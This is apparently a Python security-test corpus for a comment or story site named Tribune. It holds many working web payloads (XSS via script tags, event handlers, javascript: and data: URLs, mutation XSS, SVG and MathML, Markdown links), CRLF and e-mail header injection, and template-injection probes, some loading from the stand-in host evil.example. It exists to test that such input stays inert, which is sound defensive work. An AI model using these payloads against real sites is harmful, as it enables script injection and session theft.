"""The hostile corpus: inputs a reader, a staff member or a page dump could send, written for
Tribune (not copied from a public list), in classes the attack plan names.

Every payload that carries markup names the MARKER (as an element, an attribute or its
value), so the oracle can tell a payload that came alive from one shown as text. Expected
outcomes per field are the contract in DESIGN.md: ``refused(field, value)`` says which inputs
must be a 422 naming the field; everything else must be stored, and inert wherever shown.

``sample(n)`` is the representative sub-corpus for the slowest paths (form posts that
re-render the whole story page, the report form, staff forms, the CLI): the first n of
every class, in the order written, so the sharpest payloads of each class come first.
"""

from __future__ import annotations

import unicodedata
from urllib.parse import urlsplit

from tests.security.oracle import MARKER

M = MARKER
ALERT = f"alert('{M}')"

HTML = (
    f"<script>{ALERT}</script>",
    f"<SCRIPT SRC=//evil.example/{M}.js></SCRIPT>",
    f"<script\x20type='text/javascript'>{ALERT}</script>",
    f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
    f"<img src=x onerror={ALERT}>",
    f'<img src="x" {M}="1" onerror="{ALERT}">',
    f"<img/src=x/onerror={ALERT}>",
    f"<img src=x onerror\n={ALERT}>",
    f"<body onload={ALERT}>",
    f"<iframe src=javascript:{ALERT}></iframe>",
    f"<iframe srcdoc='<script>{ALERT}</script>'></iframe>",
    f"<object data=javascript:{ALERT}></object>",
    f"<embed src=data:text/html,<script>{ALERT}</script>>",
    f"<base href=//evil.example/{M}/>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{M}'>",
    f"<link rel=stylesheet href=//evil.example/{M}.css>",
    f"<style>@import '//evil.example/{M}.css';</style>",
    f"<form action=//evil.example/{M}><input name=password></form>",
    f"<button formaction=javascript:{ALERT}>{M}</button>",
    f"<input autofocus onfocus={ALERT}>",
    f"<details open ontoggle={ALERT}>",
    f"<marquee onstart={ALERT}>{M}</marquee>",
    f"<video><source onerror={ALERT}></video>",
    f"<audio src=x onerror={ALERT}>",
    f"<a href=javascript:{ALERT}>{M}</a>",
    f"<a href='https://example.org/' {M}=1 onmouseover={ALERT}>x</a>",
    f"<div style='background:url(javascript:{ALERT})'>{M}</div>",
    f"<p style=x:expression({ALERT})>{M}</p>",
    f"</textarea><img src=x onerror={ALERT}>",
    f"</title><img src=x onerror={ALERT}>",
    f"</script><script>{ALERT}</script>",
    f"</style><img src=x onerror={ALERT}>",
    f"<!--<img src=x onerror={ALERT}>-->",
    f"--><img src=x onerror={ALERT}><!--",
    f"<![CDATA[<img src=x onerror={ALERT}>]]>",
    f"<?xml version='1.0'?><{M}/>",
    f"<!DOCTYPE html><{M}>",
    f"<{M} onclick={ALERT}>click</{M}>",
    f"<isindex action=javascript:{ALERT} type=image>",
    f"<table background=javascript:{ALERT}>",
    f"<keygen autofocus onfocus={ALERT}>",
    f"<a href=x ping=//evil.example/{M}>x</a>",
    f"<img srcset='x 1x, javascript:{ALERT} 2x'>",
    f"<portal src=//evil.example/{M}></portal>",
    f"<div {M}>unclosed <b>tags <i>everywhere",
    f"<<script>>{ALERT}<</script>>",
    f"<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;{M}>",
    f"<a href=&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:{ALERT}>{M}</a>",
)

ATTRIBUTE = (
    f'" onmouseover="{ALERT}" x="',
    f"' onmouseover='{ALERT}' x='",
    f"` onmouseover=`{ALERT}` x=`",
    f'"><img src=x onerror={ALERT}>',
    f"'><img src=x onerror={ALERT}>",
    f"`><img src=x onerror={ALERT}>",
    f'"/><{M}>',
    f'" autofocus onfocus="{ALERT}',
    f'"{M}="1',
    f"'{M}='1",
    f"`{M}=`1",
    f"x onmouseover={ALERT} {M}=1",
    f'x"\tonmouseover="{ALERT}',
    f'x"\x20/onmouseover="{ALERT}',
    f"&quot; onmouseover=&quot;{ALERT}",
    f"&#34; onmouseover=&#34;{ALERT}",
    f"&#x27; onmouseover=&#x27;{ALERT}",
    f'"style="background:url(javascript:{ALERT})',
    f'" href="javascript:{ALERT}',
    f'" formaction="javascript:{ALERT}',
    '"' * 50 + M,
    "'" * 50 + M,
    "`" * 50 + M,
    f'\\" onmouseover=\\"{ALERT}',
    f"%22%20onmouseover%3D%22{ALERT}",
)

# A dangerous scheme, as written plainly and in the ways browsers still read it.
SCHEMES = ("javascript", "vbscript", "data", "file", "jar", "livescript", "feed", "view-source")
SCHEME_VARIANTS = (
    "{s}:",
    "{S}:",
    " {s}:",
    "{s}\t:",
    "{a}\t{b}:",
    "{a}\n{b}:",
    "{a}&#x09;{b}:",
    "{a}&#10;{b}:",
    "&#{o};{r}:",
    "&#x{h};{r}:",
    "{s}&colon;",
    "{s}&#58;",
    "{s}%3a",
)


def _scheme_variants() -> tuple[str, ...]:
    found = []
    for scheme in SCHEMES:
        half = len(scheme) // 2
        for pattern in SCHEME_VARIANTS:
            found.append(
                pattern.format(
                    s=scheme,
                    S=scheme.swapcase(),
                    a=scheme[:half],
                    b=scheme[half:],
                    o=ord(scheme[0]),
                    h=format(ord(scheme[0]), "x"),
                    r=scheme[1:],
                )
                + (f"{ALERT}" if scheme != "data" else f"text/html,<script>{ALERT}</script>")
            )
    return tuple(found)


URLS = (
    *_scheme_variants(),
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{M}",
    f"data:image/svg+xml,<svg onload={ALERT}>",
    f"javascript://example.org/%0a{ALERT}",
    f"javascript:/*https://example.org/*/{ALERT}",
    f"mailto:javascript:{ALERT}",
    f'https://example.org/"onmouseover="{ALERT}',
    f"https://example.org/'onmouseover='{ALERT}'x='",
    f"https://example.org/`onmouseover=`{ALERT}",
    f'https://example.org/?q="><script>{ALERT}</script>',
    f"https://example.org/#<img src=x onerror={ALERT}>",
    f"http://{M}.example/",
    f"https://user:pass@evil.example/{M}",
    f"//evil.example/{M}",
    f"\\\\evil.example\\{M}",
    f"/\\evil.example/{M}",
    f"https:evil.example/{M}",
    f"ftp://evil.example/{M}",
    f"blob:https://example.org/{M}",
    f"filesystem:https://example.org/{M}",
    f"intent://{M}#Intent;scheme=https;end",
    f"https://xn--80ak6aa92e.com/{M}",
    f"https://аpple.com/{M}",  # Cyrillic а
    f"https://example.org/{'a' * 1990}",
    f"https://example.org/{'a' * 2001}",
)

MARKDOWN = (
    f"[{M}](javascript:{ALERT})",
    f"[{M}](JAVASCRIPT:{ALERT})",
    f"[{M}](<javascript:{ALERT}>)",
    f"[{M}](javascript&#58;{ALERT})",
    f"[{M}](&#106;avascript:{ALERT})",
    f"[{M}](java&#x09;script:{ALERT})",
    f"[{M}](java%0ascript:{ALERT})",
    f"[{M}]( javascript:{ALERT})",
    f"[{M}](data:text/html,<script>{ALERT}</script>)",
    f"[{M}](vbscript:msgbox)",
    f'[{M}](https://example.org/ "title" onclick="{ALERT}")',
    f"[{M}](https://example.org/ '\" onmouseover=\"{ALERT}')",
    f'[{M}](https://example.org/" onmouseover="{ALERT})',
    f"[{M}][ref]\n\n[ref]: javascript:{ALERT}",
    f'[{M}][ref]\n\n[ref]: <javascript:{ALERT}> "t"',
    f"[ref]\n\n[ref]: data:text/html,{M}",
    f"<javascript:{ALERT}>",
    f"<JaVaScRiPt:{ALERT}>",
    f"<vbscript:{M}>",
    f"<data:text/html,{M}>",
    f"<{M}@example.org>",
    f"<mailto:{M}@example.org?body=<script>>",
    f'<https://example.org/"onmouseover="{ALERT}>',
    f'www.example.org/"onmouseover="{ALERT}',
    f"https://example.org/<img src=x onerror={ALERT}>",
    f"![{M}](javascript:{ALERT})",
    f"![{M}](https://evil.example/{M}.png)",
    f"![{M}](data:image/svg+xml,<svg onload={ALERT}>)",
    f'![x](https://example.org/x.png "onerror={ALERT}")',
    f"[![{M}](https://evil.example/i.png)](javascript:{ALERT})",
    f"<div onclick={ALERT}>\n\n**{M}**\n\n</div>",
    f"<details>\n<summary>{M}</summary>\n<script>{ALERT}</script>\n</details>",
    f"<img src=x onerror={ALERT}>\n\n# heading {M}",
    f"`<script>{ALERT}</script>`",
    f"```html\n<script>{ALERT}</script>\n```",
    f"    <img src=x onerror={ALERT}>",
    f"> <img src=x onerror={ALERT}>\n> > <{M}>",
    f"* <img src=x onerror={ALERT}>\n* [{M}](javascript:1)",
    f"1. <{M}>\n2. [x](javascript:{ALERT})",
    f"***{M}***<b>bold</b>__x__",
    f"[x](https://example.org/?a=1&b=<{M}>)",
    f"[[{M}](javascript:1)](https://example.org/)",
    f"[{M}](https://example.org/) [x](javascript:{ALERT}) [y](https://example.org/)",
    f"\\<script>{ALERT}\\</script>",
    f"&lt;script&gt;{ALERT}&lt;/script&gt;",
    f"&#60;script&#62;{ALERT}&#60;/script&#62;",
    f"<!-- {M} -->",
    f"[{M}]: javascript:{ALERT}",
    f"| a | b |\n|---|---|\n| <{M}> | [x](javascript:1) |",
    f"Line one  \nline <br onmouseover={ALERT}> two",
    f"~~~\n</code></pre><img src=x onerror={ALERT}>\n~~~",
    f"<https://example.org/?{M}=<svg/onload=1>>",
    "[" * 200 + M + "]" * 200,
    "> " * 100 + M,
    "* " * 100 + M,
    "*" * 400 + M,
    "`" * 300 + M,
)

SVG_MATHML = (
    f"<svg><script>{ALERT}</script></svg>",
    f"<svg onload={ALERT}>",
    f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{ALERT}><text x=20 y=20>{M}</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg id=x onload={ALERT}>#x></svg>",
    f"<svg><foreignObject><iframe srcdoc='{M}'></iframe></foreignObject></svg>",
    f"<svg><set attributeName=href to=javascript:{ALERT}>",
    f"<svg><style>@import '//evil.example/{M}'</style></svg>",
    f"<svg><desc><![CDATA[</desc><script>{ALERT}</script>]]></svg>",
    f"<svg><title><img src=x onerror={ALERT}></title></svg>",
    f"<math href=javascript:{ALERT}>{M}</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{ALERT}>{M}</maction></math>",
    f"<math><mtext><img src=x onerror={ALERT}></mtext></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={ALERT}></annotation-xml>",
    f"<math><mi xlink:href=data:x,{M}>x</mi></math>",
    f"<svg><image href=javascript:{ALERT}></svg>",
    f"<svg><feImage xlink:href=data:{M}></svg>",
    f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{ALERT}</handler>",
)

MUTATION = (
    f'<noscript><p title="</noscript><img src=x onerror={ALERT}>">',
    f"<template><img src=x onerror={ALERT}></template>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ALERT}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={ALERT}>">',
    f'<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
    f'<img onerror={ALERT} src=1>">',
    f'<select><template><style><!--</style><a rel="--></style></template></select>'
    f'<img src onerror={ALERT}>">',
    f"<listing>&lt;img src=x onerror={ALERT}&gt;</listing>",
    f"<xmp><img src=x onerror={ALERT}></xmp>",
    f"<plaintext><{M}>",
    f'<noembed><img title="</noembed><img src=x onerror={ALERT}>"></noembed>',
    f'<noframes><img title="</noframes><img src=x onerror={ALERT}>"></noframes>',
    f'<iframe><img title="</iframe><img src=x onerror={ALERT}>"></iframe>',
    f'<textarea><img title="</textarea><img src=x onerror={ALERT}>"></textarea>',
    f'<title><img title="</title><img src=x onerror={ALERT}>"></title>',
    f'<style><img title="</style><img src=x onerror={ALERT}>"></style>',
    f'<a href="x"><a href="javascript:{ALERT}">{M}</a></a>',
    f"<table><tr><td><a><table><{M}></table></a></td></tr></table>",
    f"<p><svg><p><style>*{{}}</style><img src=x onerror={ALERT}></svg></p>",
    f"<svg><![CDATA[><img src=x onerror={ALERT}>]]></svg>",
    f"<math><style><img src=x onerror={ALERT}></style></math>",
    f"<svg><p><style><img src=x onerror={ALERT}></style></p></svg>",
    f'<div id="x"><img src=x alt="`" onerror={ALERT}></div>',
    f"<img src=`x` onerror=`{ALERT}`>",
    f'<a href="&#x6a;avascript:{ALERT}">{M}</a>',
    f'<a href="jav&#x0D;ascript:{ALERT}">{M}</a>',
    f'<a href="\x01javascript:{ALERT}">{M}</a>',
)

UNICODE = (
    f"\u202eadmin {M}",
    f"\u202dLRO \u202c{M}",
    f"\u2067RLI {M}\u2069 after",
    f"\u061c\u200f{M}\u200e",
    f"zero\u200bwidth\u200c{M}\u200djoin\u2060",
    f"\ufeffBOM first {M}",
    f"аdmin {M}",  # Cyrillic а
    f"Аdmin Ехample {M}",  # Cyrillic А, Е
    f"＜script＞{ALERT}＜/script＞",
    f"﹤script﹥{ALERT}﹤/script﹥",
    f"\uff1cimg src=x onerror={ALERT}\uff1e",
    f"\u2039script\u203a{M}",
    f"e\u0301\u0301\u0301\u0301\u0301 combining {M}",
    f"Z̷̢̛͖̻a̶̢͚l̷g̸o {M}",
    f"emoji 👩‍👩‍👧‍👦🏳️‍🌈 astral 𝒳𝓈𝓈 {M}",
    "𝟘𝟙𝟚 mathematical digits " + M,
    f"ﬁligature ﬀ {M}",
    f"\u0130stanbul İ ı {M}",
    f"ß ẞ casefold {M}",
    f"\U000e0041\U000e0042 tag characters {M}",
    f"\ufffd replacement {M}",
    f"\u00a0no-break\u2007figure\u202fspace {M}",
    f"\u3000ideographic space {M}",
    f"\u115f\u1160 hangul fillers {M}",
    f"〈script〉{M}",
)

CONTROL = (
    f"nul\x00{M}",
    f"bell\x07{M}",
    f"backspace\x08{M}",
    f"vertical\x0btab{M}",
    f"form\x0cfeed{M}",
    f"escape\x1b[31m{M}",
    f"delete\x7f{M}",
    f"nel\x85{M}",
    f"csi\x9b{M}",
    f"line\u2028separator{M}",
    f"paragraph\u2029separator{M}",
    f"carriage\rreturn{M}",
    f"tab\tinside{M}",
    f"unit\x1fseparator{M}",
)

CRLF = (
    f"x\r\nSet-Cookie: {M}=1",
    f"x\nSet-Cookie: {M}=1",
    f"x\r\n\r\n<script>{ALERT}</script>",
    f"x%0d%0aSet-Cookie:%20{M}=1",
    f"x\r\nContent-Type: text/html\r\n\r\n<{M}>",
    f'x\ndata: {{"{M}": 1}}\n\nevent: comment',
    f"\r\nevent: comment\r\ndata: <{M}>\r\n\r\n",
    f"x\n[INFO] admin login ok user=root {M}",
)

TEMPLATE = (
    "{{7*7}}",
    "${7*7}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{{ config }}",
    "{{ request }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{ self._TemplateReference__context }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{# comment #}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "{{constructor.constructor('alert(1)')()}}",
    "*{7*7}",
    "@(7*7)",
    "%{7*7}",
    "{{=7*7}}",
    "\x00csrf\x00",
    "{{ csrf_token }}",
)

LONG = (
    "a" * 10_000,
    "a" * 10_001,
    "<" * 5_000 + M,
    f"<{M} " + "a=1 " * 2_000 + ">",
    "&amp;" * 2_000,
    "[x](" * 1_000,
    "*a " * 3_000,
    "\n" * 5_000 + M,
    "x" * 100,
    "x" * 101,
    "🙂" * 2_500,
    " " * 200 + M + " " * 200,
)

CLASSES: dict[str, tuple[str, ...]] = {
    "html": HTML,
    "attribute": ATTRIBUTE,
    "url": URLS,
    "markdown": MARKDOWN,
    "svg-mathml": SVG_MATHML,
    "mutation": MUTATION,
    "unicode": UNICODE,
    "control": CONTROL,
    "crlf": CRLF,
    "template": TEMPLATE,
    "long": LONG,
}
ALL: tuple[str, ...] = tuple(dict.fromkeys(p for payloads in CLASSES.values() for p in payloads))


def sample(per_class: int) -> tuple[str, ...]:
    """The representative sub-corpus: the first ``per_class`` payloads of every class."""
    return tuple(dict.fromkeys(p for payloads in CLASSES.values() for p in payloads[:per_class]))


def websites() -> tuple[str, ...]:
    """Payloads for the website field: the corpus as it is (mostly refused: not a web
    address) and inside an https address, where they must be stored and stay inert."""
    inside = tuple(
        f"https://example.org/{p}"
        for p in (*ATTRIBUTE, *HTML[:12], *TEMPLATE[:4], *UNICODE[:6], *CRLF[:3])
    )
    return tuple(dict.fromkeys((*ALL, *URLS, *inside)))


EMAILS = (
    f"{M}@example.org",
    f'"<script>{ALERT}</script>"@example.org',
    f'{M}+"onmouseover=alert(1)@example.org',
    f"x@{M}.example\r\nBcc: victim@example.org",
    "x@example.org\nBcc: victim@example.org",
    "x@example.org%0aBcc:victim@example.org",
    f"<{M}@example.org>",
    "x'onmouseover='alert(1)'@example.org",
    "x`onmouseover=alert(1)@example.org",
    f"{M}@[127.0.0.1]",
    f"{M}@example.org" + "a" * 250,
    "аdmin@example.org",  # Cyrillic а
    f"{M}@xn--80ak6aa92e.com",
    f"{M}@пример.рф",
)


def is_control(char: str) -> bool:
    return unicodedata.category(char) in ("Cc", "Zl", "Zp")


# What a name may not hold (README "Moderation"): characters that show nothing or turn the
# text around (bidi marks, overrides and isolates, zero-width spaces, soft hyphen, BOM).
# Written out here rather than imported, so the contract is checked, not restated.
NAME_INVISIBLE = frozenset(
    "\u00ad\u061c\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e"
    "\u2060\u2061\u2062\u2063\u2064\u2066\u2067\u2068\u2069\ufeff"
)


def refused(field: str, value: str) -> bool | None:
    """Whether the contract (DESIGN.md, README "Field rules") refuses this value for the
    field: True must be a 422 naming it, False must be stored; None: either is allowed
    (an e-mail's syntax is the validator's to judge)."""
    if field == "name":
        name = value.strip()
        hidden = any(c in NAME_INVISIBLE for c in value)
        return any(is_control(c) for c in value) or hidden or not name or len(name) > 100
    if field == "body":
        body = value.replace("\r\n", "\n").replace("\r", "\n").strip()
        return (
            not body or len(body) > 10_000 or any(is_control(c) and c not in "\t\n" for c in body)
        )
    if field == "website":
        website = value.strip()
        if not website:
            return False
        if len(website) > 2_000 or any(is_control(c) or c.isspace() for c in website):
            return True
        try:
            parts = urlsplit(website)
            parts.port  # noqa: B018  (a malformed port)
        except ValueError:
            return True
        return parts.scheme.lower() not in ("http", "https") or not parts.hostname
    if field == "email":
        email = value.strip()
        if len(email) > 254 or any(is_control(c) or c.isspace() for c in email):
            return True
        return None if email else False
    if field == "reason":  # a moderator's reason (reject, ban)
        reason = value.strip()
        return len(reason) > 1_000 or any(is_control(c) and c not in "\t\n" for c in reason)
    if field == "text":  # a report's text
        text = value.strip()
        return len(text) > 500 or any(is_control(c) and c not in "\t\n" for c in text)
    raise KeyError(field)
